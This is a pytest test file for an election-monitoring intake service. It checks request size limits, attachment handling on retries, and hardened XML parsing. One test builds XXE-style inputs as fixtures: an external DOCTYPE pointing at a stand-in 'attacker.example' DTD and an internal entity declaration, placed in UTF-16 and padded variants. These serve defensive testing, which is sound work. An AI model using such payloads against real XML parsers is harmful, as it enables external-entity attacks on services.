"""Size limits on every way in (413, nothing stored), attachments written only after the key
is checked, and XML parsed hardened: a DTD or entity anywhere, in any encoding, is refused."""

import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from pollwatch.intake.models import InboundReport
from pollwatch.submissions.models import Evidence, Submission

from .conftest import submission_body
from .test_api import oleg  # noqa: F401 - the fixture
from .test_openrosa import DATA, collect_headers, oleg_basic  # noqa: F401 - the fixture
from .test_sms import OLEG

PHOTO = "1679204012345.jpg"


def files_under(settings):
    from pathlib import Path

    root = Path(settings.MEDIA_ROOT) / "openrosa"
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def post(client, auth, data, **attachments):
    files = {"xml_submission_file": SimpleUploadedFile("instance.xml", data, content_type="text/xml")}
    for name, content in attachments.items():
        files[name] = SimpleUploadedFile(name, content, content_type="image/jpeg")
    return client.post("/openrosa/submission", files, **collect_headers("post_submission"), **auth)


def test_head_advertises_the_limit_that_is_enforced(client, oleg_basic, settings):  # noqa: F811
    settings.INTAKE_MAX_BYTES = 100_000
    head = client.head("/openrosa/submission", **oleg_basic)
    assert head["X-OpenRosa-Accept-Content-Length"] == "100000"
    incident = (DATA / "incident-with-photo.xml").read_bytes()
    response = post(client, oleg_basic, incident, **{PHOTO: b"\xff\xd8" + b"0" * 150_000})
    assert response.status_code == 413
    assert "at most" in response.content.decode()
    assert InboundReport.objects.count() == 0 and files_under(settings) == []


def test_oversize_instance_is_refused_before_it_is_parsed(client, oleg_basic, settings):  # noqa: F811
    settings.INTAKE_MAX_BYTES = 50_000
    xml = (DATA / "opening-submission.xml").read_text()
    big = xml.replace("Two police officers", "x" * 60_000).encode()
    assert post(client, oleg_basic, big).status_code == 413
    assert InboundReport.objects.count() == 0


def test_oversize_json_body_is_refused(oleg, settings):  # noqa: F811
    settings.INTAKE_MAX_JSON_BYTES = 2_000
    response = oleg.post("/api/v1/submissions", submission_body(comments="x" * 3_000))
    assert response.status_code == 413
    assert response.json()["errors"][0]["code"] == "too_large"
    assert InboundReport.objects.count() == 0
    assert oleg.post("/api/v1/submissions", submission_body()).status_code == 201


def test_oversize_sms_webhook_is_refused(client, gateways, settings):  # noqa: F811
    settings.INTAKE_MAX_SMS_BYTES = 1_000
    response = client.post("/sms/generic/", {"from": OLEG, "text": "OP 71001 " + "A3 Y " * 400,
                                             "secret": "generic-secret"})
    assert response.status_code == 413
    assert InboundReport.objects.count() == 0


def test_retries_with_attachments_leave_no_extra_files(client, oleg_basic, settings):  # noqa: F811
    incident = (DATA / "incident-with-photo.xml").read_bytes()
    photo = (DATA / PHOTO).read_bytes()
    assert post(client, oleg_basic, incident, **{PHOTO: photo}).status_code == 201
    stored = files_under(settings)
    assert len(stored) == 1
    assert post(client, oleg_basic, incident, **{PHOTO: photo}).status_code == 202
    other = incident.replace(b"box 2", b"box 3")
    assert post(client, oleg_basic, other, **{PHOTO: photo}).status_code == 409
    assert files_under(settings) == stored
    assert Evidence.objects.count() == 1
    assert sorted(InboundReport.objects.values_list("status", flat=True)) == ["processed", "refused"]


def _opening(declaration="<?xml version='1.0' ?>", before_root=""):
    xml = (DATA / "opening-submission.xml").read_text()
    return xml.replace("<?xml version='1.0' ?>", declaration + before_root, 1)


@pytest.mark.parametrize("case", ["late-doctype", "utf16-doctype", "utf16-entity", "utf16-no-bom"])
def test_a_dtd_anywhere_in_any_encoding_is_stored_and_quarantined(client, oleg_basic, case):  # noqa: F811
    padding = "<!--" + "p" * 4000 + "-->"
    doctype = '<!DOCTYPE data SYSTEM "http://attacker.example/x.dtd">'
    entity = '<!DOCTYPE data [<!ENTITY e "boom">]>'
    if case == "late-doctype":
        data = _opening(before_root=padding + doctype).encode()
    elif case == "utf16-doctype":
        data = _opening("<?xml version='1.0' encoding='UTF-16'?>", doctype).encode("utf-16")
    elif case == "utf16-entity":
        data = _opening("<?xml version='1.0' encoding='UTF-16'?>", entity).replace(
            "Two police", "&e; police").encode("utf-16")
    else:
        data = _opening("<?xml version='1.0' encoding='UTF-16'?>", padding + doctype).encode(
            "utf-16-le")
    response = post(client, oleg_basic, data)
    assert response.status_code == 202, response.content
    report = InboundReport.objects.get()
    assert report.status == "quarantined"
    assert "DTD" in report.reason or "entit" in report.reason
    assert report.original_bytes() == data
    assert Submission.objects.count() == 0


def test_the_xml_declaration_names_the_encoding(client, oleg_basic):  # noqa: F811
    text = _opening("<?xml version='1.0' encoding='windows-1251'?>").replace(
        "Two police officers stood by the entrance.", "Двое полицейских у входа.")
    response = post(client, oleg_basic, text.encode("windows-1251"))
    assert response.status_code == 201
    assert Submission.objects.get().answers["comments"] == "Двое полицейских у входа."
    assert json.dumps(InboundReport.objects.get().payload, ensure_ascii=False).count("Двое") == 1
